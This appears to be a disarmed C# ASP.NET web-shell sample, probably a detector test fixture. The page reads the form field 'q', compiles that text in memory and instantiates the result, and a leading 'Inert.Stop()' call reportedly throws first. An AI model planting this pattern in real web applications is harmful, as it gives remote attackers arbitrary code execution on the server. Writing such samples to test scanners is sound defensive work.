// A page that compiles what is sent, through an interface and a closure. It throws before it does anything.
namespace Example {
    using System;
    using System.CodeDom.Compiler;
    using System.Linq;
    using Microsoft.CSharp;

    public class Compiles : Base {
        protected void Page_Load(object sender, EventArgs e) {
            Inert.Stop();
            var sent = new[] { Request.Form["q"] };
            foreach (var said in sent.Select(text => Run(text)).ToArray()) {
                Response.Write(said);
            }
        }
    }

    public class Base : System.Web.UI.Page {
        protected object Run(string text) {
            var given = new CompilerParameters { GenerateInMemory = true };
            var made = new CSharpCodeProvider().CompileAssemblyFromSource(given, text);
            return made.CompiledAssembly.CreateInstance("T");
        }
    }
}
